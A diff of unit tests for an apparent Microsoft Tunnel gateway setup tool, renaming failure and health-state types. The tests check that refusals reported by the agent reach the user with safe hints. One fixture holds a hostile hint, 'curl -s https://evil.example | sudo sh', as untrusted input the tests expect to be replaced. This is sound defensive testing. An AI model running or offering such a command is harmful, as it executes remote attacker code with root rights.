@@ -17,10 +17,14 @@ from mstunnel_setup.base.errors import CertificateError, EngineError, NetworkErr
 from mstunnel_setup.base.values import JsonObject
 from mstunnel_setup.containers.engine import Finished
 from mstunnel_setup.exchange import gateway_report as report
-from mstunnel_setup.exchange.health_report import HealthReport, ReportedRow, write_health
-from mstunnel_setup.exchange.health_state import State
-from mstunnel_setup.exchange.status_file import Failure
-from mstunnel_setup.exchange.thresholds import Thresholds
+from mstunnel_setup.exchange.health_report import (
+    HealthReport,
+    HealthState,
+    ReportedRow,
+    Thresholds,
+    write_health,
+)
+from mstunnel_setup.exchange.status_file import SyncFailure
 from mstunnel_setup.install import tunnel_device
 from mstunnel_setup.install.steps import certificate, verify
 from mstunnel_setup.tenant.wire import TunnelServer
@@ -29,7 +33,7 @@ from tests.unit.install.scenes import OSAKA, Scene, configuration, container
 
 _PKI = Pki()
 CHECKED_IN = TunnelServer(id="3", display_name="gw1", last_checkin_date_time=NOW)
-REFUSED = Failure(
+REFUSED = SyncFailure(
     code="throttled",
     message="the tenant refuses: the server checks in with another application identity",
     hint="Run `curl -s https://evil.example | sudo sh`.",
@@ -217,7 +221,7 @@ def test_a_server_that_the_tenant_does_not_list(scene: Scene, tmp_path: Path) ->
     assert caught.value.code == "server-not-listed"
 
 
-def _report(scene: Scene, state: State, error: Failure | None = REFUSED) -> None:
+def _report(scene: Scene, state: HealthState, error: SyncFailure | None = REFUSED) -> None:
     """What the agent says of its check-ins."""
     row = ReportedRow(id="last-check-in", title="Last check-in", state=state, text="")
     at = NOW
@@ -235,7 +239,7 @@ def _refusal(scene: Scene, folder: Path) -> TenantError:
 
 def test_an_agent_that_the_tenant_refuses_is_named_with_what_refused_it(scene: Scene, tmp_path: Path) -> None:
     scene.graph.listed = [TunnelServer(id="3", display_name="gw1")]
-    _report(scene, State.UNHEALTHY)
+    _report(scene, HealthState.UNHEALTHY)
     error = _refusal(scene, tmp_path)
     assert error.message.endswith(REFUSED.message)
     assert error.hint == "Wait a few minutes, then run the command again."
@@ -243,7 +247,7 @@ def test_an_agent_that_the_tenant_refuses_is_named_with_what_refused_it(scene: S
 
 def test_a_code_of_the_agent_that_is_none_of_ours_leads_to_its_log(scene: Scene, tmp_path: Path) -> None:
     scene.graph.listed = [TunnelServer(id="3", display_name="gw1")]
-    _report(scene, State.UNHEALTHY, REFUSED.model_copy(update={"code": "forged"}))
+    _report(scene, HealthState.UNHEALTHY, REFUSED.model_copy(update={"code": "forged"}))
     assert _refusal(scene, tmp_path).hint == "`mst-cli agent logs --tail 20` shows why."
 
 
@@ -255,12 +259,12 @@ def test_an_agent_that_never_reached_the_tenant(scene: Scene, tmp_path: Path) ->
 
 def test_a_check_in_of_another_does_not_hide_that_the_agent_is_refused(scene: Scene, tmp_path: Path) -> None:
     """The record may have been made by an application, and so have a date from the start."""
-    _report(scene, State.UNKNOWN)
+    _report(scene, HealthState.UNKNOWN)
     assert _refusal(scene, tmp_path).message.endswith(REFUSED.message)
 
 
 def test_what_an_earlier_agent_reported_does_not_count(scene: Scene, tmp_path: Path) -> None:
-    _report(scene, State.UNHEALTHY)
+    _report(scene, HealthState.UNHEALTHY)
     later = NOW + timedelta(seconds=1)
     scene.engine.containers["mstunnel-agent"] = replace(container(), started_at=later)
     with _serving(tmp_path, _PKI) as port:
